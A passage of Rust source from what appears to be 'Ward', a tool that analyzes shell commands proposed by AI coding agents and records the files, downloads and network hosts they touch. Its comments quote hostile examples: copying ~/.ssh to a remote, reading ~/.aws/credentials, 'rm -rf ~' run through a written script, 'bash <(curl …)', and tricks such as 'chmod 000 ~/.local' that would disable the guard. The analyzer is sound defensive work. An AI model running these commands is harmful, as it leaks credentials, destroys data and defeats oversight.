                while let Some(a) = it.next() {
                    if let Some(path) =
                        a.strip_prefix("-p").map(|rest| if rest.is_empty() { it.next() } else { Some(rest) })
                    {
                        match (path, it.next()) {
                            (Some(path), Some(name)) if !is_unknown(path) && !is_unknown(name) => {
                                self.aliases.insert(name.to_owned(), path.to_owned());
                            }
                            _ => self.out.dynamic = true,
                        }
                    }
                }
                return Stream::None;
            }
            "fc" if !args.iter().any(|a| plain(a).starts_with("-l")) => {
                // `fc -s`, `fc -e - N`: runs commands from the shell's history, which the line
                // may have filled (`history -s CMD`).
                self.record(&argv, &wrappers);
                self.out.dynamic = true;
                return Stream::None;
            }
            "alias" => {
                self.record(&argv, &wrappers);
                for a in args {
                    if let Some((name, value)) = plain(a).split_once('=') {
                        if is_unknown(a) {
                            self.out.dynamic = true;
                        }
                        self.aliases.insert(name.to_owned(), value.to_owned());
                    }
                }
                return Stream::None;
            }
            "eval" => {
                if downloaded_arg {
                    let i = self.record(&argv, &wrappers);
                    self.mark(i, true, false);
                    return Stream::Opaque;
                }
                let script = args.iter().map(|a| plain(a)).collect::<Vec<_>>().join(" ");
                if args.iter().any(|a| is_unknown(a) || a.contains('$') || a.contains('`')) {
                    self.out.dynamic = true;
                }
                wrappers.push("eval".to_owned());
                return self.script(&script, &wrappers, depth + 1);
            }
            "trap" => {
                // `trap 'cmd' EXIT`: the handler runs later in this shell (at exit, on a signal,
                // before each command for DEBUG): analyzed as if it ran here.
                self.record(&argv, &wrappers);
                let operands: Vec<&String> = match args.first().map(|a| plain(a)) {
                    Some("--") => args[1..].iter().collect(),
                    Some(option) if option.starts_with('-') && option.len() > 1 => Vec::new(),
                    _ => args.iter().collect(),
                };
                // One operand alone, or `-`, resets signals; a handler comes with its signals.
                if let [handler, _signal, ..] = operands.as_slice() {
                    if is_unknown(handler) {
                        self.out.dynamic = true;
                    } else if plain(handler) != "-" {
                        wrappers.push("trap".to_owned());
                        let _ = self.script(plain(handler), &wrappers, depth + 1);
                    }
                }
                return Stream::None;
            }
            "watch" => {
                let script = tables::watch_command(args);
                if !script.is_empty() {
                    wrappers.push("watch".to_owned());
                    return self.script(&script, &wrappers, depth + 1);
                }
            }
            "find" => return self.find(&argv, &wrappers, depth),
            "fd" | "fdfind" => return self.fd(&argv, &wrappers, depth),
            "read" => {
                self.record(&argv, &wrappers);
                self.read_builtin(args, &stdin);
                return Stream::None;
            }
            "set" => {
                // `set -- A B` / `set A B`: the positional parameters are A, B.
                self.record(&argv, &wrappers);
                let mut operands: Option<Vec<String>> = None;
                let mut i = 0;
                while let Some(a) = args.get(i) {
                    let word = plain(a);
                    if word == "--" {
                        operands = Some(args[i + 1..].to_vec());
                        break;
                    }
                    // `-o NAME`, `-euo NAME`: the option name is the next word.
                    if (word.starts_with('-') || word.starts_with('+'))
                        && word.len() > 1
                        && word.ends_with('o')
                    {
                        i += 2;
                        continue;
                    }
                    if (word.starts_with('-') || word.starts_with('+')) && !is_unknown(a) {
                        i += 1;
                        continue;
                    }
                    operands = Some(args[i..].to_vec());
                    break;
                }
                if let Some(operands) = operands {
                    let mut positional =
                        vec![self.vars.get("0").cloned().unwrap_or_else(|| "bash".to_owned())];
                    positional.extend(operands);
                    self.set_positional(&positional);
                }
                return Stream::None;
            }
            "shift" => {
                self.record(&argv, &wrappers);
                self.shift_positional(args.first().map(String::as_str));
                return Stream::None;
            }
            _ if self.functions.contains(&program) => {
                // A function of this line: its body was analyzed where it was defined, without
                // this call's input or order; any value a variable took in the line may be its
                // value now, and input given to it is read by code analyzed without it. Its
                // arguments may be any file it touches (`f() { rm "$@"; }; f .ward-tier-x`).
                self.record(&argv, &wrappers);
                for a in
                    args.iter().filter(|a| !plain(a).starts_with('-') && tables::looks_like_path(plain(a)))
                {
                    self.add_path(a, Access::Read);
                    self.add_path(a, Access::Write);
                }
                if stdin != Stream::None {
                    self.out.dynamic = true;
                }
                let history: Vec<(String, Vec<String>)> =
                    self.history.iter().map(|(name, values)| (name.clone(), values.clone())).collect();
                for (name, values) in history {
                    self.bind_keeping(name, values, true);
                }
                return Stream::Opaque;
            }
            "mapfile" | "readarray" => {
                self.record(&argv, &wrappers);
                self.mapfile(args, &stdin, &wrappers, depth);
                return Stream::None;
            }
            "printf" if args.first().is_some_and(|a| plain(a).starts_with("-v")) => {
                // `printf -v f '%s/.aws/credentials' ~`: an assignment.
                self.record(&argv, &wrappers);
                if let (Some(target), text) = printf_arguments(args) {
                    // `printf -v 'a[0]' …` sets one element of `a`.
                    let (name, element) = match target.split_once('[') {
                        Some((name, _)) => (name.to_owned(), true),
                        None => (target, false),
                    };
                    match text {
                        Some(text) => {
                            let keeps_old = element || self.scoped();
                            self.bind_keeping(name, vec![text], keeps_old);
                        }
                        None => self.forget(&name),
                    }
                }
                return Stream::None;
            }
            "ssh" => {
                self.ssh(&argv, &wrappers, depth);
                return Stream::Opaque;
            }
            "apply_patch" | "applypatch" => {
                // Codex's shell-invoked patch tool: the patch is the argument or stdin.
                self.record(&argv, &wrappers);
                let text = match (args.first(), &stdin) {
                    (Some(a), _) => Some(a.clone()),
                    (None, Stream::Literal(t) | Stream::Unexpanded(t)) => Some(t.clone()),
                    _ => None,
                };
                if let Some(text) = text {
                    for t in crate::patch::parse(&text).targets {
                        self.add_path(&t.path, t.access);
                    }
                }
                return Stream::Opaque;
            }
            "source" | "." => {
                let i = self.record(&argv, &wrappers);
                if let Some(file) = args.first() {
                    self.add_path(file, Access::Read);
                    self.add_path(file, Access::Execute);
                    let stdin_file = matches!(file.as_str(), "/dev/stdin" | "-" | "/proc/self/fd/0");
                    if downloaded_arg || (stdin_file && stdin == Stream::Download) {
                        self.mark(i, true, false);
                    }
                    if !stdin_file && !downloaded_arg && code_from_descriptor(file) {
                        self.out.dynamic = true;
                    }
                    // `source /dev/stdin <<< "…"`: the code is its input.
                    match (&stdin, stdin_file) {
                        (Stream::Literal(code) | Stream::Unexpanded(code), true) => {
                            let code = code.clone();
                            let mut inner = wrappers.clone();
                            inner.push(format!("{program} <stdin"));
                            self.script(&code, &inner, depth + 1);
                        }
                        (Stream::Opaque | Stream::Names(_), true) => self.out.dynamic = true,
                        _ => {}
                    }
                }
                return Stream::Opaque;
            }
            _ => {}
        }

        self.record(&argv, &wrappers);
        if first.contains('/') && !tables::is_system_binary(first) {
            self.add_path(first, Access::Execute);
            match self.written_script(first) {
                Some(Some(text)) => {
                    let mut inner = wrappers.clone();
                    inner.push(first.clone());
                    if text.starts_with("#!") && !text.lines().next().is_some_and(|l| l.ends_with("sh")) {
                        self.inline_code(&text, &inner, depth);
                    } else {
                        self.script(&text, &inner, depth + 1);
                    }
                }
                Some(None) => self.out.dynamic = true,
                None => {}
            }
        }
        // A recursive command touches everything under a directory it names: `DIR/**` is
        // reported beside `DIR`, so rules about files inside it (`~/.ssh/id_*`, Ward's spool)
        // see it. `mv` always moves the whole tree.
        if matches!(program.as_str(), "sed" | "gsed") {
            self.sed_script(args, &stdin, &wrappers, depth);
        }
        let recursive = tables::is_recursive(&program, args);
        let moves = program == "mv" || (program == "git" && plain_subcommand(args) == Some("mv"));
        self.metadata_only =
            matches!(program.as_str(), "chmod" | "chown" | "chgrp" | "touch" | "chattr" | "setfacl");
        // A permission change on a home dot-directory reaches everything under it
        // (`chmod 000 ~/.local` stops Ward writing its spool): its tree counts too. Not on a
        // directory that may hold the workspace (`chmod 755 ~`).
        let permissions = self.metadata_only && program != "touch";
        tables::file_arguments(&program, args, &mut |path, access| {
            self.add_path(path, access);
            let permission_tree = permissions
                && access == Access::Write
                && self.known_path(path).is_some_and(|p| in_home_dot_directory(&p));
            if recursive || (moves && access == Access::Delete) || permission_tree {
                self.add_path(&subtree(path), access);
            }
        });
        self.metadata_only = false;
        if tables::network_client_options(&program) {
            self.given_destinations(args);
        }
        if !tables::knows_file_arguments(&program)
            && tables::network_kind(&program).is_none()
            && !matches!(program.as_str(), "echo" | "printf" | "git" | "cd" | "pushd" | "test" | "[")
        {
            // A program Ward has no table for (an editor, a custom tool, a launcher it does not
            // know: `rimraf`, `gio trash`, `npx some-tool`): an argument that looks like a path
            // may be a file it reads (`vim ~/.ssh/id_rsa`, `tool --in=~/.aws/x`), and also one
            // it writes or removes (`rimraf .ward-tier-x`): the cautious reading, so rules about
            // changing the tier marker, Ward's files or start-up files see it.
            // Such a program given a directory outside the workspace (the home, `~/.ssh`, `/`)
            // may read all of it (`rclone copy ~/.ssh remote:`, `restic backup ~`): the tree is
            // read too, so the rules about what is in it decide, as for a container's mount
            // there. It may change all of a home dot-directory it is given (`rimraf
            // ~/.local/share` erases Ward's spool, `rimraf ~/.config`): that tree is written too.
            // Not the tree of a directory that may hold the workspace (`code ~`,
            // `eslint --fix /abs/path/to/repo`, whose marker would then count as written), nor
            // of a relative path: `prettier --write .` is everyday work.
            // A viewer or lister (`ls`, `eza`, `cat`, `stat`) reads only what it is named.
            // After `cd` into a home dot-directory, a bare name is a path there too
            // (`cd ~/.local/share && rimraf ward`, `cd ~/.ssh && rclone copy . r:`).
            let only_reads = tables::only_reads_operands(&program);
            // Only where the line went into a home dot-directory or above the workspace: a `cd`
            // to an absolute path is most often the workspace itself (`cd /abs/repo && …`).
            let cwd_outside =
                self.cwd.as_deref().is_some_and(|d| d.starts_with("..") || in_home_dot_directory(d));
            for a in args {
                let value =
                    a.split_once('=').filter(|(k, _)| k.starts_with('-')).map_or(a.as_str(), |(_, v)| v);
                let named_here = cwd_outside
                    && !value.is_empty()
                    && !is_unknown(value)
                    && !value.contains(['=', ' ', '$', '`', ':'])
                    && !value.contains("://");
                if !value.starts_with('-')
                    && !value.contains("://")
                    && (named_here
                        || ((value.contains('/') || value.starts_with('~') || value.starts_with('.'))
                            && tables::looks_like_path(plain(value))))
                {
                    self.add_path(value, Access::Read);
                    if only_reads {
                        continue;
                    }
                    self.add_path(value, Access::Write);
                    let known = self.known_path(value);
                    if known.as_deref().is_some_and(|p| p.starts_with(['/', '~']) || p.starts_with("..")) {
                        let tree = subtree(value);
                        self.add_path(&tree, Access::Read);
                        if known.as_deref().is_some_and(in_home_dot_directory) {
                            self.add_path(&tree, Access::Write);
                        }
                    }
                }
            }
        }
        // `git apply <<'EOF'`, `patch -p1 <<'EOF'`: the files a diff given on stdin changes.
        let applies_diff = program == "patch"
            || (program == "git" && matches!(plain_subcommand(args), Some("apply" | "am")));
        if applies_diff {
            if let Stream::Literal(text) | Stream::Unexpanded(text) = &stdin {
                for path in tables::diff_paths(text) {
                    self.add_path(&path, Access::Write);
                    self.add_path(&path, Access::Delete);
                }
            }
        }
        if program == "ps" {
            // BSD-style `e` (in any cluster of option letters without a dash: `ps aux e`,
            // `ps -ef e`, `ps eww`) prints each process's environment: recorded as `ps e`,
            // the form the credential-printer rules name.
            let mut environment = false;
            let mut words = args.iter().map(|a| plain(a));
            while let Some(a) = words.next() {
                let bsd = !a.starts_with('-') && !a.is_empty() && a.chars().all(|c| c.is_ascii_alphabetic());
                environment |= bsd && a.contains('e');
                // An option's value (`-o user`, `o user`, `--sort time`) is no option letters.
                let takes_value = matches!(
                    a,
                    "-o" | "-O"
                        | "-p"
                        | "-u"
                        | "-U"
                        | "-g"
                        | "-G"
                        | "-t"
                        | "-C"
                        | "-q"
                        | "-s"
                        | "-k"
                        | "--sort"
                        | "--format"
                        | "--pid"
                        | "--ppid"
                        | "--user"
                        | "--group"
                        | "--cols"
                        | "--columns"
                        | "--rows"
                ) || (bsd && a.ends_with(['o', 'O', 'p', 'U', 't', 'k']));
                if takes_value {
                    words.next();
                }
            }
            if environment {
                self.record(&["ps".to_owned(), "e".to_owned()], &wrappers);
            }
        }
        if program == "git" && plain_subcommand(args) == Some("config") {
            // git reads section and key names in any case (`Remote.origin.Url`, `core.FSMonitor`):
            // the call is also recorded with them in lower case, as the rules spell them. A
            // subsection (`origin`) keeps its case, as git does.
            let lowered: Vec<String> = argv.iter().map(|a| lower_config_key(a)).collect();
            if lowered != argv {
                self.record(&lowered, &wrappers);
            }
            // `git config [--global] core.editor 'CMD'`: the next git command runs CMD; it is
            // analyzed now, as `git -c` is.
            if let Some((key, value, unknown)) = tables::git_config_set(args) {
                self.git_configuration(&key, &value, unknown, false, &wrappers, depth);
            }
        }
        if program == "git" {
            // `git -c core.sshCommand='…' fetch`, `git -c alias.x='!…' x`: configuration given
            // on the command line that runs commands.
            // `git clone -c k=v` / `--config k=v` sets configuration for the clone's own fetch.
            let mut configs = tables::git_command_line_config(args);
            if plain_subcommand(args) == Some("clone") {
                configs.extend(tables::git_clone_config(args));
            }
            for (key, value, unknown) in configs {
                self.git_configuration(&key.to_ascii_lowercase(), &value, unknown, true, &wrappers, depth);
            }
            tables::git_file_arguments(args, &mut |path, access, tree| {
                self.add_path(path, access);
                if tree {
                    self.add_path(&subtree(path), access);
                }
            });
            for path in tables::git_reads(args) {
                self.add_path(&path, Access::Read);
            }
            // `git cat-file --batch <<< 'HEAD:.env'`: the objects named on its input.
            if plain_subcommand(args) == Some("cat-file")
                && args.iter().any(|a| plain(a).starts_with("--batch"))
            {
                match &stdin {
                    Stream::Literal(text) => {
                        for line in text.lines() {
                            let object = line.split_whitespace().last().unwrap_or_default();
                            if let Some(path) = tables::git_object_path(object) {
                                self.add_path(&path, Access::Read);
                            }
                        }
                    }
                    Stream::None => {}
                    // Objects named at run time: any committed file, dotfiles included.
                    _ => {
                        self.add_path("**", Access::Read);
                        self.add_path("**/.*", Access::Read);
                    }
                }
            }
        }
        // `gh gist create F`, `docker cp F c:/x`, `docker run -v DIR:/x`: files sent off.
        for upload in uploads::uploads(&program, args) {
            self.add_path(&upload.path, Access::Read);
            if upload.tree {
                self.add_path(&subtree(&upload.path), Access::Read);
            }
        }
        // A container writes the host through what it is given, out of Ward's sight (the
        // image's command, or words run inside it): `docker run -v "$PWD":/w alpine sh -c
        // 'rm /w/.ward-tier-sensitive'`, `-v ~/.local/share/ward:/x … truncate`.
        let container = uploads::container_access(&program, args);
        if let Some(access) = &container {
            if access.host {
                self.unknown_target(
                    "anything on the host: the container is given the host itself (privileged, the \
                     engine's socket, the host's namespaces or admin capabilities)"
                        .to_owned(),
                );
            }
            let mut workspace = Vec::new();
            for mount in access.mounts.iter().filter(|m| !m.read_only) {
                // `"$PWD"`, `"$(pwd)"`: the directory the line is in, as `.` names it.
                let here = matches!(plain(&mount.host), "$PWD" | "${PWD}" | "$(pwd)" | "`pwd`" | "$(pwd -P)");
                let source = if here { ".".to_owned() } else { mount.host.clone() };
                match self.known_path(&source) {
                    // Outside the workspace (the home, Ward's folders, start-up files, `/`):
                    // the tree is written, so the rules about what is in it decide.
                    Some(host) if host.starts_with(['/', '~']) => {
                        self.add_path(&mount.host, Access::Write);
                        self.add_path(&subtree(&mount.host), Access::Write);
                    }
                    // The workspace (`.`, `"$PWD"`), mounted read-write for a build every day.
                    Some(host) if !is_unknown(&source) => workspace.push((host, mount.container.clone())),
                    _ => self.unknown_target(format!(
                        "files under `{}`, which the container may change (mounted writable)",
                        plain(&mount.host)
                    )),
                }
            }
            if let (false, Some(command)) = (workspace.is_empty(), &access.command) {
                self.container_command(command, access.workdir.as_deref(), &workspace);
            }
        }
        // `npm pkg set scripts.postinstall="…"`: a script stored to run later, judged now.
        for script in tables::stored_package_scripts(&program, args) {
            self.given_command(&script, format!("{program} pkg set scripts"), &wrappers, depth);
        }
        // `unzip x.zip -d DIR`, `git clone URL DIR`: files the line does not name land under
        // DIR. Not when DIR is the working directory itself, as an archive extracted with no
        // `-d` is not: `unzip x.zip -d .` is everyday work, and the marker would count as written.
        if let Some(dir) = tables::filled_directory(&program, args) {
            self.add_path(&dir, Access::Write);
            if !matches!(plain(&dir).trim_end_matches('/'), "." | "") {
                self.add_path(&subtree(&dir), Access::Write);
            }
        }
        // `docker cp c:/x DST`, `kubectl cp pod:/x DST`: DST on the host is written.
        if let Some(destination) = uploads::copied_out(&program, args) {
            self.add_path(&destination, Access::Write);
            self.add_path(&subtree(&destination), Access::Write);
        }
        // `docker exec c CMD`, `docker compose run svc CMD`, `docker run --volumes-from c img
        // CMD`: the container's mounts are not on this line (an earlier `docker run -d -v
        // .:/w`, a compose file, another container's), so a file the command
        // changes may be the host's: Ward cannot say which.
        let hidden_mounts = container.filter(|a| a.volumes_from).and_then(|a| a.command);
        if let Some(command) = uploads::command_in_container(&program, args).or(hidden_mounts) {
            let line: Vec<String> = command.iter().map(|w| shell_quote(plain(w))).collect();
            let inner = analyze(&line.join(" "));
            let changes = inner.paths.iter().any(|p| matches!(p.access, Access::Write | Access::Delete));
            if command.iter().any(|w| is_unknown(w))
                || inner.dynamic
                || inner.parse_error.is_some()
                || !inner.unknown_targets.is_empty()
                || changes
            {
                self.unknown_target(format!(
                    "the files `{}` changes in a container whose mounts this line does not show (they may be the host's)",
                    line.join(" ")
                ));
            }
        }
        if matches!(program.as_str(), "awk" | "gawk" | "mawk" | "nawk") {
            // An awk program runs commands (`system("…")`, `"cmd" | getline`) and opens files
            // (`getline < "f"`, `print > "f"`): it is interpreter code.
            match tables::awk_program(args) {
                Some(code) if is_unknown(&code) => self.out.dynamic = true,
                Some(code) => {
                    let mut inner = wrappers.clone();
                    inner.push(program.clone());
                    self.inline_code(&code, &inner, depth);
                    for (cmd, fed) in tables::awk_pipes(&code) {
                        // `print "…" | "sh"`: the command reads what the program prints.
                        let input = if fed { Stream::Opaque } else { Stream::None };
                        self.script_fed(&cmd, input, &inner, depth + 1);
                    }
                }
                None => {}
            }
        }
        if matches!(program.as_str(), "sort" | "wc" | "du") {
            // `--files0-from=F`: the files read are named in F (`-`: stdin).
            let mut it = args.iter().map(|a| plain(a));
            while let Some(a) = it.next() {
                let list = match a.strip_prefix("--files0-from") {
                    Some("") => it.next().map(str::to_owned),
                    Some(v) => v.strip_prefix('=').map(str::to_owned),
                    None => None,
                };
                let names = match list.as_deref() {
                    Some("-") => match &stdin {
                        Stream::Literal(text) => text.split(['\0', '\n']).map(str::to_owned).collect(),
                        Stream::Names(patterns) => patterns.clone(),
                        _ => Vec::new(),
                    },
                    Some(file) => match self.written_content(file) {
                        Stream::Literal(text) => text.split(['\0', '\n']).map(str::to_owned).collect(),
                        _ => Vec::new(),
                    },
                    None => Vec::new(),
                };
                for name in names.iter().filter(|n| !n.is_empty()) {
                    self.add_path(name, Access::Read);
                }
            }
        }
        if program == "cat" && !args.is_empty() && args.iter().all(|a| !a.starts_with('-')) {
            // `echo ~/.aws/credentials > l; cat l | xargs cat`: a file this line wrote.
            let texts: Option<Vec<String>> = args
                .iter()
                .map(|a| match self.written_content(a) {
                    Stream::Literal(text) => Some(text),
                    _ => None,
                })
                .collect();
            if let Some(texts) = texts {
                return Stream::Literal(texts.join("\n"));
            }
        }
        self.network_arguments(&program, args, &wrappers, depth);
        // `curl -K - <<< 'url=…'`, `wget -i - <<< URL`: URLs (and curl options) on stdin.
        let reads_stdin_urls = match program.as_str() {
            "curl" => {
                args.windows(2).any(|w| matches!(plain(&w[0]), "-K" | "--config") && plain(&w[1]) == "-")
                    || args.iter().any(|a| plain(a) == "--config=-")
            }
            "wget" | "wget2" => {
                args.windows(2).any(|w| matches!(plain(&w[0]), "-i" | "--input-file") && plain(&w[1]) == "-")
                    || args.iter().any(|a| plain(a) == "--input-file=-")
            }
            _ => false,
        };
        if reads_stdin_urls {
            match &stdin {
                Stream::Literal(text) | Stream::Unexpanded(text) => {
                    for word in text.split(|c: char| c.is_whitespace() || c == '"' || c == '=') {
                        if is_url(word) {
                            self.add_url(word, false);
                        }
                    }
                }
                Stream::None => {}
                _ => self.add_unknown_host(),
            }
        }
        // `gh api --hostname H`: the forge host gh talks to.
        // `gh api --hostname H`; `npm install --registry=URL`, `npm config set registry URL`:
        // the host or index the tool talks to.
        let destination_option = match program.as_str() {
            "gh" => Some("--hostname"),
            "npm" | "pnpm" | "yarn" | "npx" | "bun" => Some("--registry"),
            _ => None,
        };
        if let Some(option) = destination_option {
            let mut words = args.iter().map(|a| plain(a));
            while let Some(a) = words.next() {
                let value = match a.strip_prefix(option) {
                    Some("") => words.next(),
                    Some(v) => v.strip_prefix('='),
                    None if option == "--registry" && (a == "registry" || a.ends_with(":registry")) => {
                        words.next()
                    }
                    None => None,
                };
                if let Some(value) = value {
                    self.add_destination(value);
                }
            }
        }
        let direct_network =
            !matches!(tables::network_kind(&program), None | Some(tables::NetworkKind::UrlArguments));
        if direct_network && args.iter().any(|a| is_unknown(a)) {
            // `nc $HOST 9000`, `curl "$URL"`: the destination is only known at run time.
            self.add_unknown_host();
        }
        output_of(&program, args, stdin)
    }

    /// `sh`/`bash`/… : `-c SCRIPT`, a script file, or a script on stdin.
    fn shell(
        &mut self,
        program: &str,
        argv: Vec<String>,
        mut wrappers: Vec<String>,
        stdin: Stream,
        downloaded_arg: bool,
        depth: usize,
    ) -> Stream {
        let inv = tables::shell_invocation(argv.get(1..).unwrap_or_default());
        if let Some(script) = inv.command_string {
            if downloaded_arg {
                let i = self.record(&argv, &wrappers);
                self.mark(i, true, false);
                return Stream::Opaque;
            }
            if is_unknown(&script) {
                // `sh -c "$X"`: the script itself is only known at run time.
                self.record(&argv, &wrappers);
                self.out.dynamic = true;
                return Stream::Opaque;
            }
            wrappers.push(format!("{program} {}", inv.flags));
            // `sh -c 'terraform "$@"' _ apply`: the operands after the script are $0, $1, ….
            let positional: Vec<String> =
                argv.iter().position(|a| *a == script).map(|i| argv[i + 1..].to_vec()).unwrap_or_default();
            let saved = self.vars.clone();
            self.set_positional(&positional);
            let out = self.script(&script, &wrappers, depth + 1);
            self.vars = saved;
            return out;
        }
        let i = self.record(&argv, &wrappers);
        if let Some(file) = inv.script_file.filter(|f| f != "-") {
            self.add_path(&file, Access::Execute);
            if downloaded_arg {
                self.mark(i, true, false);
            }
            // `bash <(curl …)` is judged as running a download; other descriptors are unknown.
            if code_from_descriptor(&file) && !downloaded_arg {
                self.out.dynamic = true;
            }
            // A script this same line wrote (`echo 'rm -rf ~' > x.sh; sh x.sh`) is analyzed.
            match self.written_script(&file) {
                Some(Some(text)) => {
                    wrappers.push(format!("{program} {file}"));
                    self.script(&text, &wrappers, depth + 1);
                }
                Some(None) => self.out.dynamic = true,
                None => {}
            }
            return Stream::Opaque;
        }
        match stdin {
            Stream::Download => self.mark(i, true, false),
            Stream::Literal(text) | Stream::Unexpanded(text) => {
                wrappers.push(format!("{program} <stdin"));
                // `bash -s a b`: the operands are the script's $1, $2, …; no outer ones leak in.
                let mut positional = vec![program.to_owned()];
                positional.extend(
                    argv.iter().skip(1).filter(|a| !a.starts_with('-') && !a.starts_with('+')).cloned(),
                );
                let saved = self.vars.clone();
                self.set_positional(&positional);
                self.script(&text, &wrappers, depth + 1);
                self.vars = saved;
            }
            // File names run as commands: which ones is only known at run time.
            Stream::Opaque | Stream::Names(_) => self.out.dynamic = true,
            Stream::None => {}
        }
        Stream::Opaque
    }

    /// `shift [N]`: `$1` is what `$N+1` was; an unknown count leaves them all unknown.
    fn shift_positional(&mut self, count: Option<&str>) {
        let count = match count.map(|c| plain(c).parse::<usize>()) {
            None => Some(1),
            Some(Ok(n)) => Some(n),
            Some(Err(_)) => None,
        };
        let Some(count) = count else {
            for name in (1..10).map(|i| i.to_string()).chain(["@", "*", "#"].map(str::to_owned)) {
                self.forget(&name);
            }
            return;
        };
        for i in 1..10 {
            match self.vars.get(&(i + count).to_string()).cloned() {
                Some(value) if i + count < 10 => {
                    self.vars.insert(i.to_string(), value);
                }
                _ if i + count < 10 => {
                    self.vars.remove(&i.to_string());
                }
                _ => {
                    self.forget(&i.to_string());
                }
            }
        }
        if let Some(all) = self.vars.get("@").cloned() {
            let rest: Vec<&str> = all.split_whitespace().skip(count).collect();
            let joined = rest.join(" ");
            self.vars.insert("@".into(), joined.clone());
            self.vars.insert("*".into(), joined);
            self.vars.insert("#".into(), rest.len().to_string());
        }
    }

    /// `$0`, `$1`, …, `$@`, `$*`, `$#` of a `sh -c` script from its operands. An operand only
    /// known at run time leaves its parameter (and `$@`) unknown.
    /// A function's body runs with its callers' arguments: inside it (and, not knowing where
    /// it ends, for the rest of the line) `$1`, `$@`, … are only known at run time.
    fn positional_unknown(&mut self) {
        for name in ["@", "*", "#"].into_iter().map(str::to_owned).chain((1..10).map(|i| i.to_string())) {
            self.forget(&name);
        }
    }

    fn set_positional(&mut self, operands: &[String]) {
        for name in ["@", "*", "#"] {
            self.vars.remove(name);
        }
        for i in 0..10 {
            self.vars.remove(&i.to_string());
        }
        for (i, op) in operands.iter().enumerate().take(10) {
            if !is_unknown(op) {
                self.vars.insert(i.to_string(), op.clone());
                self.text_vars.remove(&i.to_string());
            } else {
                // `set -- "$(cat f)"; $(($1))`: text only known at run time.
                self.text_vars.insert(i.to_string());
            }
        }
        let rest = operands.get(1..).unwrap_or_default();
        if !rest.iter().any(|o| is_unknown(o)) {
            self.vars.insert("@".into(), rest.join(" "));
            self.vars.insert("*".into(), rest.join(" "));
            self.vars.insert("#".into(), rest.len().to_string());
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn interpreter(
        &mut self,
        program: &str,
        flags: &tables::InterpreterFlags,
        argv: &[String],
        mut wrappers: Vec<String>,
        stdin: Stream,
        downloaded_arg: bool,
        depth: usize,
    ) -> Stream {
        let inv = tables::interpreter_invocation(flags, argv.get(1..).unwrap_or_default());
        let i = self.record(argv, &wrappers);
        if let Some(code) = inv.inline_code {
            self.mark(i, downloaded_arg, true);
            if is_unknown(&code) {
                // `python -c "$CODE"`: the program is only known at run time.
                self.out.dynamic = true;
                return Stream::Opaque;
            }
            wrappers.push(format!("{program} {}", inv.flag));
            self.inline_code(&code, &wrappers, depth);
            self.command_language_code(program, &code, &wrappers, depth);
            for f in &inv.in_place_files {
                self.add_path(f, Access::Write);
            }
            self.code_operands(&inv.operands, true);
            return Stream::Opaque;
        }
        // `python3 -m pip install …`: pip itself, as its rules see it.
        if inv.module {
            let mut words = argv.iter().skip(1).map(|a| plain(a));
            let mut module = None;
            while let Some(a) = words.next() {
                if let Some(m) = a.strip_prefix("-m") {
                    module = if m.is_empty() { words.next().map(str::to_owned) } else { Some(m.to_owned()) };
                    break;
                }
            }
            if let Some(tool @ ("pip" | "pip3" | "pipx" | "twine" | "poetry" | "uv")) = module.as_deref() {
                let mut command = vec![tool.to_owned()];
                command.extend(inv.operands.iter().cloned());
                let mut inner = wrappers.clone();
                inner.push(format!("{program} -m"));
                let _ = self.exec(command, inner, Stream::None, downloaded_arg, depth + 1);
            }
        }
        // `python3 -m base64 FILE`: the module's arguments; `python3 tool.py FILE`: the
        // script's, which it may read.
        self.code_operands(&inv.operands, inv.module);
        match inv.script_file {
            Some(file) if file != "-" => {
                if downloaded_arg {
                    self.mark(i, true, false);
                }
                self.script_file(&file, format!("{program} {file}"), &wrappers, depth);
            }
            _ if !inv.module => {
                if stdin == Stream::Download || downloaded_arg {
                    self.mark(i, true, false);
                } else if let Stream::Literal(code) | Stream::Unexpanded(code) = &stdin {
                    // `python3 <<'EOF' … EOF`: the here-document is the program.
                    self.mark(i, false, true);
                    wrappers.push(format!("{program} <stdin"));
                    self.inline_code(code, &wrappers, depth);
                    self.command_language_code(program, code, &wrappers, depth);
                } else if matches!(stdin, Stream::Opaque | Stream::Names(_)) {
                    self.out.dynamic = true;
                }
            }
            _ => {}
        }
        Stream::Opaque
    }

    /// What a program with its own command language runs and opens (`tools`): its shell
    /// commands are analyzed, code Ward cannot read makes the line dynamic.
    fn tool(
        &mut self,
        program: &str,
        code: tools::ToolCode,
        wrappers: &[String],
        stdin: &Stream,
        depth: usize,
    ) {
        let mut inner = wrappers.to_vec();
        inner.push(program.to_owned());
        if code.unseen {
            self.out.dynamic = true;
        }
        for script in &code.scripts {
            if is_unknown(script) {
                self.out.dynamic = true;
            } else {
                let _ = self.script(plain(script), &inner, depth + 1);
            }
        }
        for command in code.commands {
            let _ = self.exec(command, inner.clone(), Stream::None, false, depth + 1);
        }
        for path in &code.reads {
            self.add_path(path, Access::Read);
        }
        for path in &code.writes {
            self.add_path(path, Access::Write);
        }
        match (code.stdin, stdin) {
            (tools::StdinIs::Data, _) | (_, Stream::None) => {}
            (tools::StdinIs::ShellScript, Stream::Literal(text) | Stream::Unexpanded(text)) => {
                let text = text.clone();
                inner.push("<stdin".to_owned());
                let _ = self.script(&text, &inner, depth + 1);
            }
            (
                kind @ (tools::StdinIs::SqliteCommands
                | tools::StdinIs::PsqlCommands
                | tools::StdinIs::MysqlCommands
                | tools::StdinIs::ExCommands),
                Stream::Literal(text) | Stream::Unexpanded(text),
            ) => {
                let mut from_stdin = tools::ToolCode::default();
                match kind {
                    tools::StdinIs::SqliteCommands => tools::sqlite_text(text, &mut from_stdin),
                    tools::StdinIs::ExCommands => {
                        for line in text.lines() {
                            tools::ex_command(line, &mut from_stdin);
                        }
                    }
                    tools::StdinIs::PsqlCommands => tools::psql_text(text, &mut from_stdin),
                    _ => tools::mysql_text(text, &mut from_stdin),
                }
                self.tool(program, from_stdin, wrappers, &Stream::None, depth + 1);
            }
            // Commands read from a file, a download or another program's output.
            _ => self.out.dynamic = true,
        }
    }

    /// Code of a language whose statements are command lines (Tcl, expect, PowerShell) is
    /// also read as shell: the commands it names and the paths they take are recorded. Its
    /// own syntax is not shell's, so what the shell reading cannot parse or resolve is
    /// not held against the line.
    fn command_language_code(&mut self, program: &str, code: &str, wrappers: &[String], depth: usize) {
        if !tables::command_language(program) {
            return;
        }
        let (dynamic, parse_error) = (self.out.dynamic, self.out.parse_error.clone());
        let _ = self.script(code, wrappers, depth + 1);
        self.out.dynamic = dynamic;
        self.out.parse_error = parse_error;
    }

    /// The arguments interpreter code or a module gets: code may open each one, read it (a
    /// directory: anything in it) and, for code Ward reads (`changes`), write it too. A script's
